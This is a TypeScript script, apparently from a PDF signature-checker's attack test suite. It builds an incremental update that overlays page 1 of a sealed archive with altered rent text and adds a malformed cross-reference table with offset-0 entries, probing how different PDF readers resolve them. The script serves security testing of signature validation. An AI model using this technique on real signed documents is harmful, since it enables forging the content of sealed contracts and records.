// a21: a table-based update listing, beside nothing else, one unused object number as in use at offset 0
// (`0000000000 00000 n`), with page 1's number re-defined, unlisted, before it. Do readers (PDFium's
// ParseAndAppendCrossRefSubsectionData reads offset 0 as a bad entry) refuse the table and rebuild?
// sig: the table re-lists the first object of the file (the real archive: 32, the seal's signature dictionary) at offset
// 0, where the header comments stand before `32 0 obj`: sealcheck and poppler read the same object; pdf.js's getEntry
// takes offset 0 for no entry (null), qpdf too ("object has offset 0").
//   npx tsx scripts/attack-s16/table-zero.ts <honest|zero|sig>   REAL=0 for samples/valid (default: the real archive)
import { NumberAllocator, serialize } from "../../src/augment/writer.js";
import { parsePdf } from "../../src/input/pdf/index.js";
import { rawGet } from "../../src/input/pdf/objects.js";
import { wholeSource } from "../../src/input/source.js";
import { resolveLimits } from "../../src/limits.js";
import { save, work } from "../attack36/lib.js";
import { judge, latin, page1 } from "./lib.js";

const mode = process.argv[2] ?? "zero";
if (!["honest", "zero", "sig"].includes(mode)) throw new Error("usage: <honest|zero|sig>");
const p = page1();
const pdf = p.pdf;
const doc = parsePdf(wholeSource(pdf), resolveLimits());
const view = doc.latest();
const alloc = new NumberAllocator(doc);
const [B, U] = [alloc.take(), alloc.take()];
const content = latin("1 g 0 0 2000 2000 re f 0 g BT /F9 28 Tf 60 700 Td (Husleje: 1 kr. pr. maaned) Tj ET\n");
const parts: number[][] = [[...pdf]];
let at = pdf.length;
const push = (b: number[]) => {
  parts.push(b);
  at += b.length;
};
if (pdf.at(-1) !== 0x0a) push([0x0a]);
const offB = at;
push([...latin(`${B} 0 obj\n<< /Length ${content.length} >>\nstream\n`), ...content, ...latin("\nendstream\nendobj\n")]);
push(
  latin(
    `${p.num} 0 obj\n<< ${p.kept.join(" ")} /Contents ${B} 0 R /Resources << /Font << /F9 << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >> >> >>\nendobj\n`,
  ),
);
const offT = at;
const carried = ["Root", "Info", "ID"].flatMap((k) => {
  const v = rawGet(view.trailer, k);
  return v ? [`/${k} ${serialize(v)}`] : [];
});
const e = (off: number, g: number, t: string) => `${String(off).padStart(10, "0")} ${String(g).padStart(5, "0")} ${t}\r\n`;
const second = mode === "zero" ? e(0, 0, "n") : e(0, 0, "f");
const first = Number(/^\s*%[^\n]*\n(?:%[^\n]*\n)*\s*(\d+) 0 obj/.exec(Buffer.from(pdf.subarray(0, 200)).toString("latin1"))?.[1] ?? NaN);
push(
  latin(
    `xref\n${mode === "sig" ? `${first} 1\n${e(0, 0, "n")}` : ""}${B} 2\n${e(offB, 0, "n")}${second}trailer\n<< /Size ${U + 1} ${carried.join(" ")} /Prev ${doc.revisions.at(-1)!.startxref} >>\nstartxref\n${offT}\n%%EOF\n`,
  ),
);
judge(`table-zero ${mode}`, save(work(`s16-table-zero-${mode}`), "archive.pdf", Uint8Array.from(parts.flat())));
